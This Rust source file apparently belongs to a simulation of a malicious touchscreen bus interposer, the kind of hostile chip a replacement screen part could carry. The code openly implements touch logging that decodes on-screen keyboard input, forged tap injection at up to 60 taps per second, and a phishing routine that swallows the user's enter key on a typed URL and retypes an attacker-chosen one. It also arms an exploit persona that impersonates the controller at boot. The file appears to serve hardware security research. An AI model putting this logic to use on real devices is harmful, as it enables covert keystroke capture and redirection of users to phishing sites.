//! The malicious interposer. Passive mode forwards everything and decodes the
//! touch traffic it sees (touch logging); injection serves forged interrupt
//! cycles at up to 60 taps per second; the phishing machinery watches the
//! typing state and swaps a completed URL before its enter lands; the exploit
//! persona takes the controller's place at boot.

pub mod exploit;
pub mod keyboard;

use std::collections::{BTreeMap, VecDeque};

use crate::bus::{Interposer, ReadAction, ResponseAction, Source, WriteAction};
use crate::controller::{encode_touch_report, TouchFrame, TouchState, REG_FINGER_BITMAP, REG_TOUCH_REPORT};
use crate::driver::{decode_touch, TouchEventOut};
use crate::profile::Profile;

use exploit::ExploitPersona;
use keyboard::{
    step_keyboard_mode, step_typing, substitute_url, Focus, InjectionPlan, KeyboardLayout,
    KeyboardMode, Rect, Trigger, TypingState,
};

pub const SUBSTITUTION_WINDOW: &str = "url_substitution";

/// Where suppressed taps get rewritten to; nothing sits at the panel origin.
const DEAD_POINT: (u16, u16) = (0, 0);

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LoggedTouch {
    pub tick: u64,
    pub event: TouchEventOut,
}

/// A labeled injection interval, `[start, start + plan duration]`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InjectionWindow {
    pub label: String,
    pub start_us: u64,
    pub end_us: u64,
}

#[derive(Debug, Clone)]
pub struct AttackerConfig {
    pub layout: KeyboardLayout,
    /// Injection rate in taps per second.
    pub rate: u32,
    pub phish_map: BTreeMap<String, String>,
    /// Screen region of the browser URL bar, when known; gates URL triggers.
    pub url_bar: Option<Rect>,
}

impl AttackerConfig {
    pub fn for_profile(profile: &Profile) -> Self {
        AttackerConfig {
            layout: KeyboardLayout::qwerty(profile.panel.width, profile.panel.height),
            rate: keyboard::MAX_TAP_RATE,
            phish_map: BTreeMap::new(),
            url_bar: None,
        }
    }
}

#[derive(Debug, Clone)]
struct ScheduledFrame {
    due: u64,
    frame: TouchFrame,
}

/// Frame currently being served as a forged interrupt cycle.
#[derive(Debug, Clone)]
struct Serving {
    frame: TouchFrame,
}

#[derive(Debug, Clone)]
pub struct Attacker {
    cfg: AttackerConfig,
    // Register roles learned from the protocol.
    status_reg: u16,
    touch_bit: u8,
    // Touch logging state.
    kb_mode: KeyboardMode,
    typing: TypingState,
    log: Vec<LoggedTouch>,
    last_bitmap: Option<u16>,
    suppress_up_at: Option<(u16, u16)>,
    // Injection state.
    queue: VecDeque<ScheduledFrame>,
    serving: Option<Serving>,
    windows: Vec<InjectionWindow>,
    now: u64,
    persona: Option<ExploitPersona>,
}

impl Attacker {
    pub fn new(profile: &Profile, cfg: AttackerConfig) -> Self {
        let triggers = cfg
            .phish_map
            .keys()
            .map(|url| Trigger { id: url.clone(), pattern: url.clone(), on_enter: true })
            .collect();
        let status_reg = profile
            .function(0x01)
            .map(|f| u16::from(f.data_addr))
            .unwrap_or(crate::controller::REG_IRQ_STATUS);
        let touch_bit = profile
            .functions
            .iter()
            .position(|f| f.function_id == 0x12)
            .unwrap_or(1) as u8;
        Attacker {
            cfg,
            status_reg,
            touch_bit,
            kb_mode: KeyboardMode::Letters,
            typing: TypingState::with_triggers(triggers),
            log: Vec::new(),
            last_bitmap: None,
            suppress_up_at: None,
            queue: VecDeque::new(),
            serving: None,
            windows: Vec::new(),
            now: 0,
            persona: None,
        }
    }

    pub fn layout(&self) -> &KeyboardLayout {
        &self.cfg.layout
    }

    pub fn rate(&self) -> u32 {
        self.cfg.rate
    }

    pub fn log(&self) -> &[LoggedTouch] {
        &self.log
    }

    /// Finger-down positions in logged order; the polyline of a pattern.
    pub fn logged_downs(&self) -> Vec<(u16, u16)> {
        self.log
            .iter()
            .filter(|l| l.event.state == TouchState::Down)
            .map(|l| (l.event.x, l.event.y))
            .collect()
    }

    pub fn windows(&self) -> &[InjectionWindow] {
        &self.windows
    }

    pub fn window(&self, label: &str) -> Option<&InjectionWindow> {
        self.windows.iter().find(|w| w.label == label)
    }

    pub fn arm_exploit(&mut self, persona: ExploitPersona) {
        self.persona = Some(persona);
    }

    pub fn persona(&self) -> Option<&ExploitPersona> {
        self.persona.as_ref()
    }

    pub fn injection_idle(&self) -> bool {
        self.queue.is_empty() && self.serving.is_none()
    }

    /// Schedule a plan to start now; records its labeled window.
    pub fn enqueue_plan(&mut self, now: u64, plan: &InjectionPlan, label: &str) {
        for (offset, frame) in plan.schedule() {
            self.queue.push_back(ScheduledFrame { due: now + offset, frame: frame.clone() });
        }
        self.windows.push(InjectionWindow {
            label: label.to_string(),
            start_us: now,
            end_us: now + plan.duration_us,
        });
    }

    /// Earliest tick the attacker needs the simulation to visit.
    pub fn next_wakeup(&self) -> Option<u64> {
        let inject = if self.serving.is_some() { Some(self.now) } else { self.queue.front().map(|f| f.due) };
        let persona = self.persona.as_ref().and_then(|p| p.next_wakeup());
        match (inject, persona) {
            (Some(a), Some(b)) => Some(a.min(b)),
            (a, b) => a.or(b),
        }
    }

    fn promote_due(&mut self) {
        if self.serving.is_none() {
            if let Some(head) = self.queue.front() {
                if head.due <= self.now {
                    let head = self.queue.pop_front().unwrap();
                    self.serving = Some(Serving { frame: head.frame });
                }
            }
        }
    }

    /// Decode one forwarded finger-down event through the keyboard machines.
    /// Returns a substitution plan when a phishing trigger fired on this key.
    fn process_down(&mut self, event: &TouchEventOut) -> Option<(String, InjectionPlan)> {
        if let Some(bar) = &self.cfg.url_bar {
            if bar.contains(event.x, event.y) {
                self.typing.focus = Focus::UrlBar;
            }
        }
        let key = self.cfg.layout.decode_key(self.kb_mode, event.x, event.y)?;
        let fired = step_typing(&mut self.typing, &key);
        self.kb_mode = step_keyboard_mode(self.kb_mode, &key);
        for typed in fired {
            if self.cfg.phish_map.contains_key(&typed) {
                if let Ok(plan) = substitute_url(&typed, &self.cfg.phish_map, &self.cfg.layout, self.cfg.rate) {
                    return Some((typed, plan));
                }
            }
        }
        None
    }

    /// Rewrite a report so its single finger lands on the dead point.
    fn suppressed_report(original: &[u8], state: TouchState) -> Vec<u8> {
        let frame = TouchFrame {
            points: vec![crate::controller::TouchPoint {
                finger_id: (original[0] >> 4) & 0x0f,
                x: DEAD_POINT.0,
                y: DEAD_POINT.1,
                pressure: 0,
                state,
            }],
        };
        let mut bytes = encode_touch_report(&frame);
        bytes.resize(original.len(), 0);
        bytes
    }
}

impl Interposer for Attacker {
    fn source(&self) -> Source {
        Source::Interposer
    }

    fn on_tick(&mut self, now: u64) {
        self.now = now;
        if let Some(p) = self.persona.as_mut() {
            p.on_tick(now);
        }
        self.promote_due();
    }

    fn irq_pending(&self) -> bool {
        self.serving.is_some() || self.persona.as_ref().is_some_and(|p| p.irq_pending())
    }

    fn on_write(&mut self, now: u64, _sa: u8, reg: u16, data: &[u8]) -> WriteAction {
        self.now = now;
        if let Some(p) = self.persona.as_mut() {
            // The controller is powered off; the persona is the slave now.
            p.absorb_write(now, reg, data);
            return WriteAction::Ack;
        }
        WriteAction::Forward { reg, data: data.to_vec() }
    }

    fn on_read(&mut self, now: u64, _sa: u8, reg: u16, len: u32) -> ReadAction {
        self.now = now;
        if let Some(p) = self.persona.as_mut() {
            return ReadAction::Complete(p.respond_read(now, reg, len));
        }
        self.promote_due();
        if let Some(serving) = &self.serving {
            if reg == self.status_reg {
                let mut status = vec![0u8; len as usize];
                status[0] = 1 << self.touch_bit;
                return ReadAction::Complete(status);
            }
            if reg == REG_FINGER_BITMAP {
                let bm = serving.frame.finger_bitmap().to_le_bytes();
                let mut out = vec![0u8; len as usize];
                for (i, b) in bm.iter().take(len as usize).enumerate() {
                    out[i] = *b;
                }
                return ReadAction::Complete(out);
            }
            if reg == REG_TOUCH_REPORT {
                let mut bytes = encode_touch_report(&serving.frame);
                bytes.resize(len as usize, 0);
                // Frame delivered; the line drops until the next one is due.
                self.serving = None;
                self.promote_due();
                return ReadAction::Complete(bytes);
            }
        }
        ReadAction::Forward { reg, len }
    }

    fn on_read_response(&mut self, now: u64, _sa: u8, reg: u16, data: Vec<u8>) -> ResponseAction {
        self.now = now;
        if self.persona.is_some() {
            return ResponseAction::Pass(data);
        }
        if reg == REG_FINGER_BITMAP {
            let lo = data.first().copied().unwrap_or(0);
            let hi = data.get(1).copied().unwrap_or(0);
            self.last_bitmap = Some(u16::from_le_bytes([lo, hi]));
            return ResponseAction::Pass(data);
        }
        if reg != REG_TOUCH_REPORT {
            return ResponseAction::Pass(data);
        }
        let Some(bitmap) = self.last_bitmap.take() else {
            return ResponseAction::Pass(data);
        };
        let Ok(events) = decode_touch(&data, bitmap) else {
            return ResponseAction::Pass(data);
        };
        for e in &events {
            self.log.push(LoggedTouch { tick: now, event: *e });
        }
        // Suppress the release paired with a swallowed press.
        if let Some(at) = self.suppress_up_at {
            if events.len() == 1 && events[0].state == TouchState::Up && (events[0].x, events[0].y) == at {
                self.suppress_up_at = None;
                return ResponseAction::Rewrite(Self::suppressed_report(&data, TouchState::Up));
            }
        }
        if events.len() == 1 && events[0].state == TouchState::Down {
            let event = events[0];
            if let Some((typed, plan)) = self.process_down(&event) {
                let _ = typed;
                // Swallow the user's enter and retype in its place.
                self.suppress_up_at = Some((event.x, event.y));
                self.enqueue_plan(now, &plan, SUBSTITUTION_WINDOW);
                return ResponseAction::Rewrite(Self::suppressed_report(&data, TouchState::Down));
            }
        } else {
            for e in &events {
                if e.state == TouchState::Down {
                    self.process_down(e);
                }
            }
        }
        ResponseAction::Pass(data)
    }
}
